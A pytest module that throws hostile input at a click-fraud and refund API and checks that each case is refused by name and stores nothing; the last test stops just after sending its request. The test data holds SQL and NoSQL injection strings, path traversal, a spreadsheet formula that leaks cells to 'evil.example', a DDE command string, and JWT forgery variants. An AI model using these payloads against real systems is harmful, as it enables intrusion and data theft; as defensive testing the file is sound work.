"""Hostile input through the API: every case answers a 4xx naming the field, stores nothing, leaks nothing.

tests/test_app.py already covers each Click field's ordinary bad values, malformed JSON, 413, the
role table, expired/forged/unsigned tokens, a tampered cursor and one from another merchant. Here:
what an attacker (or a broken client) sends on purpose: lone surrogates and control characters in
every string, wrong JSON types in every field, NaN/Infinity/1e400/10^400, injection-shaped ids,
mixed scripts that must round-trip untouched, times outside the calendar, profiles past their
limits, query strings with Unicode digits and 5000-digit numbers, algorithm confusion and role
escalation in tokens, cursors replayed across scopes and deployments. Then a hypothesis property:
any JSON value in any field of a click never yields a 5xx.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import time
import uuid
from urllib.parse import quote

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa

try:  # pinned in requirements-dev.txt; without it only the property test at the end is skipped
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st
except ImportError:  # pragma: no cover
    given = None

from chalicelib import cursor as cursor_codec
from tests.chalicelib.test_faults import dump
from tests.conftest import BASE_TS, SECRET, drop_clicks, make_click, merchant_headers, post, put

# ---- helpers ---------------------------------------------------------------------------------

LEAKS = (SECRET, "Traceback", "botocore", 'File "', "Table", "dynamodb", "/work/")


def assert_refused(resp, field: str | None, status: int = 400) -> None:
    """A 4xx in Chalice's shape naming `field`, and nothing in it that the caller should not see."""
    assert resp.status_code == status, (resp.status_code, resp.body[:300])
    body = resp.json_body
    assert set(body) == {"Code", "Message"}, body
    if field is not None:
        assert body["Message"].startswith(field + ":") or body["Message"] == field, body["Message"]
    text = resp.body.decode("utf-8", "replace")
    for leak in LEAKS:
        assert leak not in text, (leak, text)


@pytest.fixture
def stored(dynamodb):
    """stored() -> every item of every table; compare before and after a refused request."""
    return lambda: dump(dynamodb)


def raw_post(client, path: str, raw: str | bytes, headers: dict):
    return client.http.post(path, headers=headers, body=raw if isinstance(raw, bytes) else raw.encode())


def with_field(click: dict, path: str, value) -> dict:
    """The click with `path` (e.g. "source.ip") set to value."""
    out = json.loads(json.dumps(click))
    node = out
    *parents, last = path.split(".")
    for name in parents:
        node = node[name]
    node[last] = value
    return out


STRING_FIELDS = [
    "advertiser_id",
    "listing_id",
    "keyword",
    "category",
    "source.device_id",
    "source.user_agent",
    "source.account_id",
    "source.seller_id",
]
ALL_FIELDS = ["click_id", "ts", "cost_micros", "currency", "dwell_ms", "source.ip", *STRING_FIELDS]


# ---- strings: surrogates, controls, scripts ------------------------------------------------------


def sender(client, method: str, path: str, body, headers: dict):
    """A zero-argument request: `body` is JSON-encoded unless it is already bytes or str."""
    raw = body if isinstance(body, bytes | str) else json.dumps(body, ensure_ascii=False)
    raw = raw.encode() if isinstance(raw, str) else raw
    return lambda: client.http.request(method, path, headers=headers, body=raw)


def click_field_cases(client, adserver, fields, values) -> list:
    """A refusal case per field and value: one click whose `field` holds `value`, posted as
    escaped JSON (so lone surrogates and control characters reach the parser as written)."""
    return [
        (
            f"{field}={value!r}",
            sender(
                client,
                "POST",
                "/v1/clicks",
                json.dumps({"clicks": [with_field(make_click(1), field, value)]}),
                adserver,
            ),
            400,
            f"clicks[0].{field}",
        )
        for field in fields
        for value in values
    ]


def refuse_each(subtests, stored, cases):
    """Send each (label, send, status, field) case: each refused by name, each storing nothing."""
    before = stored()
    for label, send, status, field in cases:
        with subtests.test(msg=label):
            resp = send()
            after = stored()
            changed, before = after != before, after  # one bad case must not fail the next ones
            assert_refused(resp, field, status)
            assert not changed, "a refused request changed storage"


def test_a_lone_surrogate_in_any_string_is_refused(client, adserver, stored, subtests):
    """JSON may spell "\\ud800" but it is not Unicode: it cannot be hashed, stored or printed."""
    cases = click_field_cases(client, adserver, [*STRING_FIELDS, "click_id"], ["\ud800", "a\udfffb"])
    refuse_each(subtests, stored, cases)


def test_control_characters_are_refused_in_every_string(client, adserver, stored, subtests):
    """C0, DEL and C1 (\\x9b is the 8-bit CSI of terminals): refused everywhere, as the README says."""
    values = [f"x{char}y" for char in ("\x00", "\x1b", "\n", "\x7f", "\x85", "\x9b")]
    refuse_each(subtests, stored, click_field_cases(client, adserver, STRING_FIELDS, values))


MIXED = {
    "advertiser_id": "商家-甲",
    "listing_id": "قائمة-١٢٣",  # Arabic, right to left, Arabic-Indic digits
    "keyword": "连衣裙 👗 فستان \u200f zero\u200bwidth 👩\u200d💻 e\u0301",
    "category": "女装/裙",
    "source": {
        "ip": "2001:db8::1",
        "device_id": "设备\u200d🙂",
        "user_agent": "Mozilla/5.0 (iPhone) AliApp(TB/10.30) 淘宝",
        "account_id": "用户\u202e名",  # a right-to-left override is a format character, not a control
    },
}


def test_mixed_scripts_round_trip_untouched(client, adserver, analyst):
    click = make_click(1, **{k: v for k, v in MIXED.items() if k != "source"}, source=MIXED["source"])
    click["source"]["user_agent"] = "curl/8.0 " + MIXED["source"]["user_agent"]  # dropped: refunded
    (result,) = post(client, "/v1/clicks", {"clicks": [click]}, adserver).json_body["results"]
    assert result["decision"] == "drop"
    view = client.http.get("/v1/clicks/c-1", headers=adserver).json_body["click"]
    for name in ("advertiser_id", "listing_id", "keyword", "category"):
        assert view[name] == click[name]
    assert view["source"] == {**click["source"], "ip": "2001:db8::1"}
    again = post(client, "/v1/clicks", {"clicks": [click]}, adserver).json_body["results"][0]
    assert again["replayed"] is True and "conflict" not in again
    owner = merchant_headers(MIXED["advertiser_id"])
    path = "/v1/merchants/" + MIXED["advertiser_id"] + "/refunds"  # the test client does not URL-decode
    (refund,) = client.http.get(path, headers=owner).json_body["refunds"]
    assert (refund["listing_id"], refund["keyword"]) == (click["listing_id"], click["keyword"])
    rows = list(
        csv.DictReader(io.StringIO(client.http.get(path + "?format=csv", headers=owner).body.decode()))
    )
    assert (rows[0]["listing_id"], rows[0]["keyword"]) == (click["listing_id"], click["keyword"])
    assert client.http.get(path, headers=merchant_headers("商家-乙")).status_code == 403


INJECTIONS = ["' OR 1=1 --", '{"$ne": null}', "../../etc/passwd", "#", "%00", "a#b#c", "<script>x</script>"]


def test_injection_shaped_click_ids_are_refused(client, adserver, stored, subtests):
    cases = []
    for value in INJECTIONS:
        clicks = {"clicks": [make_click(1, click_id=value)]}
        dwell = {"dwell": [{"click_id": value, "dwell_ms": 10}]}
        cases.append(
            (
                f"click {value}",
                lambda b=clicks: post(client, "/v1/clicks", b, adserver),
                400,
                "clicks[0].click_id",
            )
        )
        cases.append(
            (
                f"dwell {value}",
                lambda b=dwell: post(client, "/v1/dwell", b, adserver),
                400,
                "dwell[0].click_id",
            )
        )
    refuse_each(subtests, stored, cases)


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_shaped_names_are_plain_data(client, adserver, analyst, value):
    """Stored and returned literally, and they reach nothing but their own partition."""
    post(client, "/v1/clicks", {"clicks": [make_click(9, source={"user_agent": "curl/8.0"})]}, adserver)
    click = make_click(
        1,
        advertiser_id=value,
        listing_id=value,
        keyword=value,
        source={"user_agent": "curl/8.0", "device_id": value},
    )
    assert post(client, "/v1/clicks", {"clicks": [click]}, adserver).status_code == 200
    view = client.http.get("/v1/clicks/c-1", headers=adserver).json_body["click"]
    assert (view["advertiser_id"], view["listing_id"], view["keyword"]) == (value, value, value)
    resp = client.http.get(f"/v1/merchants/{quote(value, safe='')}/refunds", headers=analyst)
    assert resp.status_code == 200, resp.body
    assert [r["click_id"] for r in resp.json_body["refunds"]] == ["c-1"]  # only that advertiser's
    for other in ("S1", "S1' OR 1=1 --"):
        listed = client.http.get(f"/v1/merchants/{other}/refunds", headers=analyst).json_body["refunds"]
        assert [r["click_id"] for r in listed] == (["c-9"] if other == "S1" else [])


def test_refund_csv_neutralises_spreadsheet_formulas(client, adserver):
    """A shopper's search keyword lands in a merchant's spreadsheet: no cell may start a formula."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    clicks = [
        make_click(i, listing_id=f"L{i}", keyword=k, source={"user_agent": "curl/8.0"})
        for i, k in enumerate(hostile)
    ]
    assert post(client, "/v1/clicks", {"clicks": clicks}, adserver).status_code == 200
    body = client.http.get(
        "/v1/merchants/S1/refunds?format=csv", headers=merchant_headers("S1")
    ).body.decode()
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


# ---- wrong types, numbers JSON cannot hold ---------------------------------------------------


WRONG = [True, [], {}, {"$ne": None}, ["S2"], 1.5]


def test_a_wrong_type_in_any_field_is_refused_by_name(client, adserver, stored, subtests):
    refuse_each(subtests, stored, click_field_cases(client, adserver, ALL_FIELDS, WRONG))


def test_wrong_shapes_are_refused_by_name(client, adserver, stored, subtests):
    shapes = [
        ({"clicks": "c-1"}, "clicks"),
        ({"clicks": [[make_click(1)]]}, "clicks[0]"),
        ({"clicks": [with_field(make_click(1), "source", "10.0.0.1")]}, "clicks[0].source"),
        ({"clicks": [with_field(make_click(1), "source", [{"ip": "10.0.0.1"}])]}, "clicks[0].source"),
        ({"clicks": [make_click(1)] * 499 + [make_click(2, cost_micros=-1)]}, "clicks[499].cost_micros"),
    ]
    cases = [(f, lambda b=b: post(client, "/v1/clicks", b, adserver), 400, f) for b, f in shapes]
    refuse_each(subtests, stored, cases)


def _raw_click(field: str, literal: str) -> str:
    """A body whose `field` holds a literal JSON cannot hold as a value (NaN, 1e400, ...)."""
    marker = "__LITERAL__"
    return json.dumps({"clicks": [with_field(make_click(1), field, marker)]}).replace(f'"{marker}"', literal)


NOT_NUMBERS = [
    ("NaN", "body"),
    ("Infinity", "body"),
    ("-Infinity", "body"),
    ("1e400", "field"),  # parses as float('inf')
    ("-1e400", "field"),
    ("1" + "0" * 400, "field"),  # 10^400: a valid JSON integer, far out of range
    ("9" * 5000, "body"),  # past Python's 4300-digit integer parsing limit
    ("1.0", "field"),
    ("-0.0", "field"),
]


def test_numbers_json_cannot_hold_are_refused(client, adserver, stored, subtests):
    cases = []
    for field in ("ts", "cost_micros", "dwell_ms"):
        for literal, where in NOT_NUMBERS:
            raw = _raw_click(field, literal)
            cases.append(
                (
                    f"{field}={literal[:12]}",
                    lambda r=raw: raw_post(client, "/v1/clicks", r, adserver),
                    400,
                    "body" if where == "body" else f"clicks[0].{field}",
                )
            )
    refuse_each(subtests, stored, cases)


@pytest.mark.parametrize(
    ("cost", "ok"), [(0, True), (10**12, True), (10**12 + 1, False), (-(10**30), False), (10**30, False)]
)
def test_cost_bounds(client, adserver, cost, ok):
    resp = post(client, "/v1/clicks", {"clicks": [make_click(1, cost_micros=cost)]}, adserver)
    if ok:
        assert resp.status_code == 200 and resp.json_body["results"][0]["charged_micros"] in (0, cost)
    else:
        assert_refused(resp, "clicks[0].cost_micros")


def test_the_body_limit_is_exactly_one_megabyte(client, adserver):
    click = make_click(1)
    base = json.dumps({"clicks": [click], "pad": ""})
    exact = base.replace('"pad": ""', '"pad": "' + "x" * (1_000_000 - len(base)) + '"')
    assert len(exact.encode()) == 1_000_000
    assert raw_post(client, "/v1/clicks", exact, adserver).status_code == 200
    over = exact.replace('"pad": "x', '"pad": "xx')
    assert_refused(raw_post(client, "/v1/clicks", over, adserver), "body", 413)


def test_a_large_valid_batch_of_long_multibyte_fields_is_stored(client, adserver):
    """100 clicks with every string at its limit, in 4-byte characters: DynamoDB limits hold."""
    emoji = "👗"
    clicks = [
        make_click(
            i,
            listing_id=f"L{i}" + emoji * 120,
            advertiser_id="S1" + emoji * 126,
            keyword=emoji * 256,
            category=emoji * 128,
            source={
                "device_id": f"d{i}" + emoji * 250,
                "user_agent": "Mozilla/5.0 " + emoji * 1000,
                "account_id": f"a{i}" + emoji * 120,
                "seller_id": emoji * 128,
            },
        )
        for i in range(100)
    ]
    resp = post(client, "/v1/clicks", {"clicks": clicks}, adserver)
    assert resp.status_code == 200, resp.body[:300]
    assert len(resp.json_body["results"]) == 100


def _with_extra(nested: str) -> str:
    return json.dumps({"clicks": [make_click(1, extra="__EXTRA__")]}).replace('"__EXTRA__"', nested)


def test_deep_nesting_in_an_ignored_field(client, adserver, stored):
    before = stored()
    deep = '{"a":' * 50_000 + "1" + "}" * 50_000
    assert_refused(raw_post(client, "/v1/clicks", _with_extra(deep), adserver), "body")
    assert stored() == before
    shallow = '{"a":' * 200 + "1" + "}" * 200
    resp = raw_post(client, "/v1/clicks", _with_extra(shallow), adserver)
    assert resp.status_code == 200, resp.body
    assert "extra" not in client.http.get("/v1/clicks/c-1", headers=adserver).json_body["click"]


def test_bodies_that_are_not_utf8_json_are_refused(client, adserver, stored, subtests):
    good = {"clicks": [make_click(1, keyword="é", category="c")]}
    raws = {
        "utf-8 BOM": b"\xef\xbb\xbf" + json.dumps(good).encode(),
        "utf-16": json.dumps(good).encode("utf-16"),
        "latin-1": json.dumps(good, ensure_ascii=False).encode("latin-1"),
        "truncated": b'{"clicks": [1] ',
        "NUL bytes": b"\x00" * 100,
    }
    cases = [
        (k, lambda r=r: raw_post(client, "/v1/clicks", r, adserver), 400, "body") for k, r in raws.items()
    ]
    refuse_each(subtests, stored, cases)


# ---- addresses -------------------------------------------------------------------------------


def test_addresses_that_are_not_one_host_are_refused(client, adserver, stored, subtests):
    """A zone id (`%eth0`, here also with a NUL in it) names an interface, not a shopper."""
    ips = ["fe80::1%eth0", "fe80::1%\x00", "10.0.0.0/24", "010.0.0.1", " 10.0.0.1", "10.0.0.1\n", "1" * 65]
    cases = [
        (
            repr(ip),
            sender(client, "POST", "/v1/clicks", {"clicks": [make_click(1, source={"ip": ip})]}, adserver),
            400,
            "clicks[0].source.ip",
        )
        for ip in ips
    ]
    refuse_each(subtests, stored, cases)


def test_an_ipv4_mapped_ipv6_address_is_the_same_source_as_the_ipv4_one(client, adserver):
    """Dual-stack ad servers log IPv4 shoppers as ::ffff:a.b.c.d: one person, one ip, one /24.

    Otherwise every IPv4 shopper falls in the single IPv6 subnet ::/64 (one velocity counter for
    the whole IPv4 internet) and a seller's listed IPv4 address never matches its own clicks.
    """
    post(client, "/v1/clicks", {"clicks": [make_click(1, source={"ip": "10.0.0.1"})]}, adserver)
    post(
        client,
        "/v1/clicks",
        {"clicks": [make_click(2, source={"ip": "::ffff:10.0.0.1"}, listing_id="L2")]},
        adserver,
    )
    view = client.http.get("/v1/clicks/c-2", headers=adserver).json_body
    assert view["click"]["source"]["ip"] == "10.0.0.1"
    assert view["evidence"]["velocity"]["ip"]["60"] == 2


# ---- times -----------------------------------------------------------------------------------


BAD_TIMES = [
    "0000-01-01T00:00:00Z",
    "1969-12-31T23:59:59.999Z",
    "2013-12-08T23:59:60Z",  # leap second
    "2013-02-30T00:00:00Z",
    "2013-12-08T14:03:09+24:00",
    "2013-12-08T14:03:09.1234567890Z",
    "２０１３-12-08T14:03:09Z",  # full-width digits
    "٢٠١٣-١٢-٠٨T14:03:09Z",  # Arabic-Indic digits
    "1386482589120",
    -1,
    1.3864e12,
]


def test_times_outside_the_calendar_are_refused(client, adserver, stored, subtests):
    cases = [
        (
            repr(ts),
            sender(client, "POST", "/v1/clicks", {"clicks": [make_click(1, ts=ts)]}, adserver),
            400,
            "clicks[0].ts",
        )
        for ts in BAD_TIMES
    ]
    refuse_each(subtests, stored, cases)


def test_the_future_ends_one_day_after_the_server_clock(client, adserver):
    now = int(time.time() * 1000)
    ok = post(client, "/v1/clicks", {"clicks": [make_click(1, ts=now + 86_400_000 - 60_000)]}, adserver)
    assert ok.status_code == 200
    late = post(client, "/v1/clicks", {"clicks": [make_click(2, ts=now + 86_400_000 + 60_000)]}, adserver)
    assert_refused(late, "clicks[0].ts")


HOSTILE_QUERIES = [
    ("from=%C2%B2", "from"),  # "²": str.isdigit() says yes, int() says no
    ("to=%C2%B9", "to"),
    ("limit=%C2%B9", "limit"),
    ("from=" + "9" * 5000, "from"),  # past Python's 4300-digit parsing limit
    ("to=" + "9" * 5000, "to"),
    ("limit=" + "9" * 5000, "limit"),
    ("limit=-1", "limit"),
    ("limit=1.5", "limit"),
    ("limit=%201", "limit"),
    ("from=%27%20OR%201%3D1%20--", "from"),
    ("reason=%27%20OR%201%3D1%20--", "reason"),
    ("format=csv%00", "format"),
    ("bucket=hour%00", "bucket"),
    ("cursor=%00", "cursor"),
    ("cursor=" + "A" * 100_000, "cursor"),
    ("cursor=%E4%BD%A0%E5%A5%BD", "cursor"),
]


def test_hostile_query_strings_are_refused_by_name(client, stored, subtests):
    cases = []
    for query, field in HOSTILE_QUERIES:
        for path in ("/v1/merchants/S1/refunds", "/v1/merchants/S1/refunds/summary"):
            applies = {"refunds": field != "bucket", "summary": field in ("from", "to", "bucket")}
            if applies[path.rsplit("/", 1)[-1]]:
                cases.append(
                    (
                        f"{path}?{query[:40]}",
                        lambda u=f"{path}?{query}": client.http.get(u, headers=merchant_headers("S1")),
                        400,
                        field,
                    )
                )
    refuse_each(subtests, stored, cases)


@pytest.mark.parametrize("path", ["/v1/merchants/S1/refunds", "/v1/merchants/S1/refunds/summary"])
def test_a_range_that_ends_before_it_starts_is_not_a_server_error(client, adserver, path):
    post(client, "/v1/clicks", {"clicks": [make_click(1, source={"user_agent": "curl/8.0"})]}, adserver)
    resp = client.http.get(f"{path}?from={BASE_TS + 10_000}&to={BASE_TS}", headers=merchant_headers("S1"))
    assert resp.status_code in (200, 400), resp.body
    if resp.status_code == 400:
        assert_refused(resp, "to")
    elif "refunds" in resp.json_body:
        assert resp.json_body["refunds"] == []


@pytest.mark.parametrize("length", [129, 3000])
def test_an_overlong_merchant_id_in_the_path_is_not_a_server_error(client, analyst, length):
    """DynamoDB refuses partition keys past 2048 bytes; the path id must be checked first."""
    for suffix in ("refunds", "refunds/summary"):
        resp = client.http.get(f"/v1/merchants/{'m' * length}/{suffix}", headers=analyst)
        assert resp.status_code in (200, 400, 404), (suffix, resp.status_code, resp.body[:200])
        if resp.status_code == 400:
            assert_refused(resp, "merchant_id")


def test_hostile_path_ids_are_refused(client, analyst, subtests):
    """Ids as API Gateway hands them over (decoded): chalice's test client does not URL-decode."""
    for path, field in (
        ("/v1/clicks/c\x00", "click_id"),
        ("/v1/clicks/" + "c" * 129, "click_id"),
        ("/v1/campaigns/\x1b[2J", "campaign_id"),
        ("/v1/campaigns/" + "x" * 129, "campaign_id"),
    ):
        with subtests.test(msg=repr(path)):
            assert_refused(client.http.get(path, headers=analyst), field)


# ---- dwell and sweeps ------------------------------------------------------------------------


HOSTILE_DWELL = [
    ('{"dwell": [{"click_id": "c-1", "dwell_ms": NaN}]}', "body"),
    ('{"dwell": [{"click_id": "c-1", "dwell_ms": 1e400}]}', "dwell[0].dwell_ms"),
    ('{"dwell": [{"click_id": "c-1", "dwell_ms": 10.0}]}', "dwell[0].dwell_ms"),
    ('{"dwell": [{"click_id": "\\ud800", "dwell_ms": 10}]}', "dwell[0].click_id"),
    ('{"dwell": [{"click_id": ["c-1"], "dwell_ms": 10}]}', "dwell[0].click_id"),
    ('{"dwell": {"click_id": "c-1", "dwell_ms": 10}}', "dwell"),
    ('{"dwell": [[]]}', "dwell[0]"),
    ('{"dwell": [' + ",".join(['{"click_id": "c-1", "dwell_ms": 1}'] * 501) + "]}", "dwell"),
]
HOSTILE_UNTIL = ["never", -1, 1.5, True, "9999-12-31T23:59:60Z", {"$gt": 0}, "\ud800", "1386482589120"]


def test_hostile_dwell_reports_and_sweep_bounds_are_refused(client, adserver, stored, subtests):
    cases = [
        (raw[:50], lambda r=raw: raw_post(client, "/v1/dwell", r, adserver), 400, f)
        for raw, f in HOSTILE_DWELL
    ]
    cases += [
        (
            f"until={u!r}",
            sender(client, "POST", "/v1/sweeps", json.dumps({"until": u}), adserver),
            400,
            "until",
        )
        for u in HOSTILE_UNTIL
    ]
    refuse_each(subtests, stored, cases)


# ---- seller profiles -------------------------------------------------------------------------


HOSTILE_PROFILES = [
    ({"categories": ["c"] + [str(i) for i in range(1000)]}, "categories"),
    ({"device_ids": [str(i) for i in range(1001)]}, "device_ids"),
    ({"ips": [f"10.0.{i // 256}.{i % 256}" for i in range(1001)]}, "ips"),
    ({"categories": ["c" * 129]}, "categories[0]"),
    ({"device_ids": ["ok", "d" * 257]}, "device_ids[1]"),
    ({"account_ids": [None]}, "account_ids[0]"),
    ({"account_ids": [""]}, "account_ids[0]"),
    ({"account_ids": [{"$ne": None}]}, "account_ids[0]"),
    ({"categories": "女装"}, "categories"),
    ({"categories": {"0": "女装"}}, "categories"),
    ({"ips": ["10.0.0.0/8"]}, "ips[0]"),
    ({"ips": ["fe80::1%eth0"]}, "ips[0]"),
    ({"categories": ["\ud800"]}, "categories[0]"),
    ({"device_ids": ["a\x9bb"]}, "device_ids[0]"),
]


def test_hostile_seller_profiles_are_refused_by_name(client, adserver, stored, subtests):
    cases = [
        (
            f"{field}: {json.dumps(body)[:40]}",
            sender(client, "PUT", "/v1/sellers/S2", json.dumps(body), adserver),
            400,
            field,
        )
        for body, field in HOSTILE_PROFILES
    ]
    for seller_id in ("s" * 129, "S\x00", "S\x1b[31m", "S\x9b"):
        cases.append(
            (
                f"seller_id {seller_id[:12]!r}",
                lambda u=f"/v1/sellers/{seller_id}": put(client, u, {"categories": ["女装"]}, adserver),
                400,
                "seller_id",
            )
        )
    refuse_each(subtests, stored, cases)


def test_the_largest_profile_the_contract_allows_is_stored_or_refused_whole(client, adserver, stored):
    """Four lists of 1000 entries at their longest: past DynamoDB's 400 KB item. Either the guard
    stores it or it answers 413 before writing anything (no identity links left behind)."""
    body = {
        "categories": [f"{i:04d}" + "c" * 124 for i in range(1000)],
        "account_ids": [f"{i:04d}" + "a" * 124 for i in range(1000)],
        "device_ids": [f"{i:04d}" + "d" * 252 for i in range(1000)],
        "ips": [f"10.{i // 256}.{i % 256}.1" for i in range(1000)],
    }
    before = stored()
    resp = put(client, "/v1/sellers/S2", body, adserver)
    assert resp.status_code in (200, 413), (resp.status_code, resp.body[:200])
    if resp.status_code == 413:
        assert_refused(resp, "body", 413)
        assert stored() == before


# ---- tokens ----------------------------------------------------------------------------------


def _claims(**extra):
    return {"sub": "attacker", "role": "analyst", "exp": int(time.time()) + 600, **extra}


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def _handmade(header: dict, claims: dict, signature: bytes = b"") -> str:
    return ".".join([_b64(json.dumps(header).encode()), _b64(json.dumps(claims).encode()), _b64(signature)])


RSA_KEY = rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _tokens() -> dict[str, str]:
    wrong = "wrong-key-" + "k" * 40
    return {
        "HS384 with the right secret": jwt.encode(_claims(), SECRET, algorithm="HS384"),
        "HS512 with the right secret": jwt.encode(_claims(), SECRET, algorithm="HS512"),
        "RS256": jwt.encode(_claims(), RSA_KEY, algorithm="RS256"),
        "RS256 header, garbage signature": _handmade(
            {"alg": "RS256", "typ": "JWT"}, _claims(), b"\x00" * 256
        ),
        "alg None": _handmade({"alg": "None"}, _claims()),
        "alg NONE": _handmade({"alg": "NONE"}, _claims()),
        "alg none with a signature": _handmade({"alg": "none"}, _claims()) + "x",
        "kid traversal": jwt.encode(
            _claims(), wrong, algorithm="HS256", headers={"kid": "../../../dev/null"}
        ),
        "jku": jwt.encode(_claims(), wrong, algorithm="HS256", headers={"jku": "http://127.0.0.1:1/k"}),
        "empty signature": _handmade({"alg": "HS256", "typ": "JWT"}, _claims(), b""),
        "not before an hour from now": jwt.encode(_claims(nbf=int(time.time()) + 3600), SECRET, "HS256"),
        "no sub": jwt.encode({"role": "analyst", "exp": int(time.time()) + 60}, SECRET, "HS256"),
        "trailing garbage": jwt.encode(_claims(), SECRET, algorithm="HS256") + "A",
        "100 KB": "x" * 100_000,
        "non-ASCII": "令牌.令牌.令牌",
        "secret minus one character": jwt.encode(_claims(), SECRET[:-1], algorithm="HS256"),
    }


def test_tokens_we_did_not_sign_with_hs256_are_401(client, stored, subtests):
    cases = [
        (
            name,
            lambda t=token: client.http.get("/v1/campaigns", headers={"Authorization": f"Bearer {t}"}),
            401,
            None,
        )
        for name, token in _tokens().items()
    ]
    cases += [
        (
            f"header {h!r}",
            lambda h=h: client.http.get("/v1/campaigns", headers={"Authorization": h}),
            401,
            None,
        )
        for h in (
            "Bearer",
            "Bearer ",
            "Token abc",
            "Bearer a.b",
            "Bearer a.b.c.d",
            "Bearer ....",
            "Bearer \x00",
        )
    ]
    token = jwt.encode(_claims(), SECRET, algorithm="HS256")
    cases.append(
        ("token in the query string", lambda: client.http.get(f"/v1/campaigns?token={token}"), 401, None)
    )
    refuse_each(subtests, stored, cases)


ESCALATIONS = [
    ({"role": ["analyst"]}, "/v1/campaigns"),
    ({"role": "Analyst"}, "/v1/campaigns"),
    ({"role": "analyst "}, "/v1/campaigns"),
    ({"role": None}, "/v1/campaigns"),
    ({"role": "admin"}, "/v1/clicks/c-1"),
    ({"role": "merchant", "merchant_id": 1}, "/v1/merchants/1/refunds"),
    ({"role": "merchant", "merchant_id": ["S1"]}, "/v1/merchants/S1/refunds"),
    ({"role": "merchant", "merchant_id": "S1"}, "/v1/merchants/s1/refunds"),
    ({"role": "merchant", "merchant_id": "S1"}, "/v1/merchants/S1 /refunds"),
    ({"role": "merchant", "merchant_id": "S1"}, "/v1/merchants/S2/refunds/summary"),
    ({"role": "merchant", "merchant_id": "S1"}, "/v1/campaigns/cmp-1"),
    ({"role": "merchant", "merchant_id": "S1", "roles": ["analyst"], "scope": "admin"}, "/v1/campaigns"),
]


def test_role_escalation_is_403(client, stored, subtests):
    cases = []
    for claims, path in ESCALATIONS:
        token = jwt.encode({"sub": "attacker", "exp": int(time.time()) + 600, **claims}, SECRET, "HS256")
        cases.append(
            (
                f"{claims} on {path}",
                lambda t=token, p=path: client.http.get(p, headers={"Authorization": f"Bearer {t}"}),
                403,
                None,
            )
        )
    refuse_each(subtests, stored, cases)


def test_a_merchant_token_writes_nothing(client, stored):
    before = stored()
    headers = merchant_headers("S1")
    for method, path, body in (
        ("POST", "/v1/clicks", {"clicks": [make_click(1)]}),
        ("POST", "/v1/dwell", {"dwell": [{"click_id": "c-1", "dwell_ms": 10}]}),
        ("PUT", "/v1/sellers/S1", {"categories": ["女装"]}),
        ("POST", "/v1/sweeps", {}),
    ):
        resp = client.http.request(method, path, headers=headers, body=json.dumps(body).encode())
        assert_refused(resp, None, 403)
    assert stored() == before


# ---- cursors ---------------------------------------------------------------------------------


def test_cursors_only_resume_the_query_they_were_issued_for(client, adserver, analyst):
    drop_clicks(client, adserver, 4, "S1")
    drop_clicks(client, adserver, 4, "S2", start=10)
    s1 = merchant_headers("S1")
    mine = client.http.get("/v1/merchants/S1/refunds?limit=1", headers=s1).json_body["next_cursor"]
    assert mine
    # The same merchant, another filter: the position would skip rows of that other query.
    for query in ("reason=BOT_AGENT", f"from={BASE_TS}", f"to={BASE_TS + 10**9}"):
        resp = client.http.get(f"/v1/merchants/S1/refunds?limit=1&{query}&cursor={mine}", headers=s1)
        assert_refused(resp, "cursor")
    # An analyst's cursor on S2, replayed by the analyst on S1, or by merchant S1 on S1.
    theirs = client.http.get("/v1/merchants/S2/refunds?limit=1", headers=analyst).json_body["next_cursor"]
    for headers in (analyst, s1):
        assert_refused(
            client.http.get(f"/v1/merchants/S1/refunds?cursor={theirs}", headers=headers), "cursor"
        )
    # A cursor of another deployment (another secret), and one of the campaign listing.
    foreign = cursor_codec.encode("another-deployment-" + "s" * 40, {"m": "S1"}, "000000000000000#x")
    campaigns = cursor_codec.encode(SECRET, {"campaigns": True, "from": None, "to": None}, "x")
    for other in (foreign, campaigns):
        assert_refused(client.http.get(f"/v1/merchants/S1/refunds?cursor={other}", headers=s1), "cursor")
    # A cursor's bytes flipped one at a time never yield a page.
    raw = base64.urlsafe_b64decode(mine + "=" * (-len(mine) % 4))
    for i in range(0, len(raw), 7):
        flipped = bytearray(raw)
        flipped[i] ^= 0x01
        forged = base64.urlsafe_b64encode(bytes(flipped)).decode().rstrip("=")
        assert_refused(client.http.get(f"/v1/merchants/S1/refunds?cursor={forged}", headers=s1), "cursor")


# ---- property: any JSON value in any field of a click is never a 5xx -----------------------------

if given is None:

    @pytest.mark.skip(reason="hypothesis is not installed (requirements-dev.txt pins it)")
    def test_any_json_value_in_any_click_field_is_never_a_server_error():
        pass

else:
    SURROGATES = st.sampled_from(["\ud800", "\udfff", "a\udc00"])
    JSON_SCALARS = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.integers(min_value=-(10**40), max_value=10**40),
        st.floats(allow_nan=True, allow_infinity=True),
        st.text(max_size=40),
        st.text(st.characters(codec="utf-8"), max_size=200),
        SURROGATES,
        st.sampled_from(["", " ", "10.0.0.1", "::1", "2013-12-08T14:03:09Z", "CNY", "c-1", "\x00", "\x9b"]),
    )
    JSON_VALUES = st.recursive(
        JSON_SCALARS,
        lambda inner: st.one_of(
            st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
        ),
        max_leaves=12,
    )
    FIELDS = [*ALL_FIELDS, "source", "extra", "source.extra"]

    @settings(
        max_examples=300,
        deadline=None,
        database=None,  # no .hypothesis/ directory in the checkout
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(
        changes=st.dictionaries(
            st.sampled_from(FIELDS), st.one_of(JSON_VALUES, JSON_SCALARS), min_size=1, max_size=3
        )
    )
    def test_any_json_value_in_any_click_field_is_never_a_server_error(client, adserver, changes):
        click = make_click(1, click_id=f"h-{uuid.uuid4().hex}")
        for field, value in sorted(changes.items(), key=lambda kv: kv[0].count(".")):
            if field.startswith("source.") and not isinstance(click.get("source"), dict):
                continue
            click = with_field(click, field, value)
        raw = json.dumps({"clicks": [click]}, allow_nan=True)  # NaN stays NaN: the parser must refuse it
        resp = raw_post(client, "/v1/clicks", raw, adserver)
